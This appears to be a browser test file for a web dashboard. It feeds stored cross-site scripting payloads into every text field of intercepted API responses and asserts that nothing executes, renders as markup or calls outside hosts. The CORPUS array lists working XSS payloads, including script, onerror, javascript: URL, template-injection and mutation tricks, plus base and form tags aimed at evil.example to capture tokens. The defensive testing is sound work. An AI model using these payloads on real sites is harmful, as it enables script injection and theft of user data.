// Stored cross-site scripting: every text that the brain may tell, replaced by what an attacker would have stored.
import { assert } from "./assert.mjs";
import { PAGES } from "./every_page.mjs";

export const CORPUS = [
  `<script>window.pwned=1</script>`, `<img src=x onerror="window.pwned=1">`, `"><svg onload=window.pwned=1>`, `'><iframe srcdoc="<script>parent.pwned=1</script>">`,
  `javascript:window.pwned=1`, `</title><script>window.pwned=1</script>`, `{{constructor.constructor('window.pwned=1')()}}`, `<a href="javascript:window.pwned=1">x</a>`,
  `<style>@import 'http://evil.example/x.css'</style>`, `\u202egnirts\u202c <b>bold</b>`, `<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=window.pwned=1>`,
  `data:text/html,<script>window.pwned=1</script>`, `<base href="http://evil.example/">`, `<form action=http://evil.example><input name=token>`, `\`-window.pwned=1-\``,
];
// Words of closed sets and forms that the page reads as such; everything else is somebody's text.
const CLOSED = new Set(["id", "state", "mode", "phase", "kind", "type", "at", "expires_at", "applied_at", "signal", "verdict", "breaker", "health", "digest", "hash", "prev_hash", "decision", "incident", "role", "csrf"]);

/** The same shape with every free text replaced; the same text by the same one, so that names still meet. */
function poisoned(value, key, known = new Map()) {
  if (typeof value === "string") {
    if (CLOSED.has(key)) return value;
    if (!known.has(value)) known.set(value, `${CORPUS[known.size % CORPUS.length]}${Math.floor(known.size / CORPUS.length) || ""}`);
    return known.get(value);
  }
  if (Array.isArray(value)) return value.map((one) => poisoned(one, key, known));
  if (value && typeof value === "object") return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, poisoned(one, name, known)]));
  return value;
}

/** Has the page note what its policy refused. */
export const listenForScripts = (page) => page.addInitScript(() => {
  window.violations = [];
  document.addEventListener("securitypolicyviolation", (event) => window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
});

/** What came of texts: whether one ran, was refused to run, or became an element. */
export const foreign = (page) => page.evaluate(() => ({
  pwned: window.pwned ?? null, violations: window.violations, foreign: document.querySelectorAll("#app script, #app iframe, #app img, #app base, #app form[action], #app style, #app math, #app [onerror], #app [onload], #app a[href^='javascript:'], #app a[href^='data:'], #app a[href^='//']").length,
}));

export function hostileSteps(demo, browser, shown) {
  return [["text from traffic is never markup, on any page", async () => {
    const page = await browser.newPage();
    shown(page);
    const known = new Map();
    const elsewhere = [];
    page.on("request", (request) => request.url().startsWith(demo.url) || request.url().startsWith("data:") || elsewhere.push(request.url()));
    page.on("dialog", (dialog) => (elsewhere.push(`dialog ${dialog.message()}`), dialog.dismiss()));
    await page.route("**/v1/**", async (route) => {
      if (route.request().url().includes("/v1/events")) {
        const [services, status] = await Promise.all(["/v1/services", "/v1/status"].map(async (path) => (await fetch(`${demo.url}${path}`)).json()));
        const picture = poisoned({ at_ms: Date.now(), status, services: services.items }, "", known);
        return route.fulfill({ contentType: "text/event-stream", body: `event: picture\ndata: ${JSON.stringify(picture)}\n\n` });
      }
      const answer = await route.fetch();
      const body = await answer.json().catch(() => null);
      return body === null ? route.fulfill({ response: answer }) : route.fulfill({ response: answer, json: poisoned(body, "", known) });
    });
    await listenForScripts(page);
    await page.goto(demo.url);
    await page.waitForFunction(() => document.querySelector("main table"));
    const evil = known.get("cart");
    assert.ok(evil, "the mesh's own names were replaced");
    for (const path of PAGES.map((one) => one.replace("cart", encodeURIComponent(evil)))) {
      await page.goto(`${demo.url}/#/${path}`);
      await page.waitForFunction(() => !document.querySelector("main .loading"), null, { timeout: 15_000 });
      assert.deepEqual(await foreign(page), { foreign: 0, pwned: null, violations: [] }, `at #/${path}`);
    }
    assert.deepEqual(elsewhere, [], "nothing is asked of anybody else");
    const words = await page.goto(`${demo.url}/#/`).then(() => page.getByText(evil).first().innerText());
    assert.ok(words.includes(evil), "it is shown as the text it is");
    // What is still on its way when the page goes is nobody's answer.
    await page.unrouteAll({ behavior: "ignoreErrors" });
    await page.close();
  }]];
}
